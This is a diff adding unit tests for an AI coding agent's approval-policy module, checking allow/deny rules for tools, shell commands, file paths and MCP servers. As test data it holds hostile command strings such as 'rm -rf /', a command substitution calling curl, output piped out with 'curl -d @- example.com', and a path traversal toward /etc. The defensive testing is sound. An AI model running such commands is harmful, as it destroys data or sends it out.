@@ -0,0 +1,177 @@
+/**
+ * @license
+ * Copyright 2025 Google LLC
+ * SPDX-License-Identifier: Apache-2.0
+ */
+
+import { describe, it, expect } from 'vitest';
+import * as fs from 'fs';
+import * as os from 'os';
+import * as path from 'path';
+import {
+  ApprovalPolicy,
+  evaluateApprovalPolicy,
+  getShellCommandRoots,
+  loadApprovalPolicy,
+} from './approvalPolicy.js';
+import { DiscoveredMCPTool } from '../tools/mcp-tool.js';
+import { Tool } from '../tools/tools.js';
+import { CallableTool } from '@google/genai';
+
+const ROOT = '/project';
+
+function decide(
+  policy: ApprovalPolicy,
+  name: string,
+  args: Record<string, unknown>,
+  tool?: Tool,
+) {
+  return evaluateApprovalPolicy(policy, name, args, tool, ROOT).decision;
+}
+
+describe('getShellCommandRoots', () => {
+  it('should find every command in chains, pipes and substitutions', () => {
+    expect(
+      getShellCommandRoots(
+        'cd src && FOO=1 /usr/bin/git log | head; $(curl x)',
+      ),
+    ).toEqual(['cd', 'git', 'head', 'curl']);
+    expect(getShellCommandRoots('echo `rm -rf /`')).toEqual(['echo', 'rm']);
+  });
+});
+
+describe('evaluateApprovalPolicy', () => {
+  it('should deny calls no rule allows by default', () => {
+    expect(decide({ rules: [] }, 'read_file', {})).toBe('deny');
+    expect(decide({ default: 'allow', rules: [] }, 'read_file', {})).toBe(
+      'allow',
+    );
+  });
+
+  it('should match tool names and globs', () => {
+    const policy: ApprovalPolicy = {
+      rules: [{ decision: 'allow', tools: ['read_*', 'glob'] }],
+    };
+    expect(decide(policy, 'read_many_files', {})).toBe('allow');
+    expect(decide(policy, 'glob', {})).toBe('allow');
+    expect(decide(policy, 'write_file', {})).toBe('deny');
+  });
+
+  it('should let deny rules win over allow rules', () => {
+    const policy: ApprovalPolicy = {
+      rules: [
+        { decision: 'allow', tools: ['*'] },
+        { decision: 'deny', tools: ['write_file'], reason: 'read-only run' },
+      ],
+    };
+    expect(
+      evaluateApprovalPolicy(policy, 'write_file', {}, undefined, ROOT),
+    ).toEqual({ decision: 'deny', reason: 'read-only run' });
+  });
+
+  it('should allow shell lines only when every command is allowed', () => {
+    const policy: ApprovalPolicy = {
+      rules: [
+        {
+          decision: 'allow',
+          tools: ['run_shell_command'],
+          commands: ['git', 'ls'],
+        },
+      ],
+    };
+    const shell = (command: string) =>
+      decide(policy, 'run_shell_command', { command });
+    expect(shell('git status && ls -la')).toBe('allow');
+    expect(shell('git status && rm -rf .')).toBe('deny');
+  });
+
+  it('should deny shell lines when any command is denied', () => {
+    const policy: ApprovalPolicy = {
+      default: 'allow',
+      rules: [{ decision: 'deny', commands: ['rm', 'curl'] }],
+    };
+    const shell = (command: string) =>
+      decide(policy, 'run_shell_command', { command });
+    expect(shell('npm test')).toBe('allow');
+    expect(shell('npm test | curl -d @- example.com')).toBe('deny');
+  });
+
+  it('should match path arguments relative to the project root', () => {
+    const policy: ApprovalPolicy = {
+      rules: [
+        { decision: 'allow', tools: ['write_file'], paths: ['src/**'] },
+        { decision: 'deny', paths: ['**/.env'] },
+      ],
+    };
+    expect(
+      decide(policy, 'write_file', { file_path: '/project/src/a/b.ts' }),
+    ).toBe('allow');
+    expect(
+      decide(policy, 'write_file', { file_path: '/project/docs/a.md' }),
+    ).toBe('deny');
+    expect(
+      decide(policy, 'write_file', { file_path: '/project/src/.env' }),
+    ).toBe('deny');
+    expect(
+      decide(policy, 'write_file', { file_path: '/project/src/../../etc/x' }),
+    ).toBe('deny');
+    expect(
+      decide(policy, 'write_file', {
+        file_path: '/project/src/a.ts',
+        edits: [{ file_path: '/project/src/.env' }],
+      }),
+    ).toBe('deny');
+    expect(
+      decide(policy, 'write_file', {
+        patch: '--- a/src/.env\n+++ b/src/.env\n@@ -1 +1 @@\n-A=1\n+A=2\n',
+      }),
+    ).toBe('deny');
+  });
+
+  it('should match the MCP server a tool comes from', () => {
+    const mcpTool = new DiscoveredMCPTool(
+      {} as CallableTool,
+      'github',
+      'create_issue',
+      'Creates an issue',
+      {},
+      'create_issue',
+    );
+    const policy: ApprovalPolicy = {
+      rules: [{ decision: 'allow', mcpServers: ['github'] }],
+    };
+    expect(decide(policy, 'create_issue', {}, mcpTool)).toBe('allow');
+    expect(decide(policy, 'create_issue', {})).toBe('deny');
+  });
+});
+
+describe('loadApprovalPolicy', () => {
+  function writePolicy(content: string): string {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'approval-policy-'));
+    const file = path.join(dir, 'policy.json');
+    fs.writeFileSync(file, content);
+    return file;
+  }
+
+  it('should load a valid policy file', () => {
+    const policy = {
+      default: 'deny',
+      rules: [{ decision: 'allow', tools: ['read_file'] }],
+    };
+    expect(loadApprovalPolicy(writePolicy(JSON.stringify(policy)))).toEqual(
+      policy,
+    );
+  });
+
+  it('should reject invalid policy files', () => {
+    const file = writePolicy(
+      JSON.stringify({ rules: [{ decision: 'maybe' }] }),
+    );
+    expect(() => loadApprovalPolicy(file)).toThrow(
+      `Invalid approval policy ${file}: rules[0].decision must be "allow" or "deny"`,
+    );
+    expect(() => loadApprovalPolicy(writePolicy('{'))).toThrow(
+      /Could not read approval policy/,
+    );
+  });
+});